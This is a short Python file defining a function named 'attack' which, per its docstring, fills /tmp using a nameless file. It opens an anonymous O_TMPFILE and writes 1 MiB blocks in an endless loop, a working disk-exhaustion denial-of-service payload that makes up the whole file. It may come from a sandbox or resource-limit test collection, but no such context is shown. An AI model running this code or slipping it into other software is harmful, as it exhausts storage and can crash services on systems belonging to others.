"""Fills /tmp by a file without a name."""

import os


def attack(x):
    file = os.open("/tmp", os.O_TMPFILE | os.O_RDWR)
    while True:
        os.write(file, bytes(1 << 20))
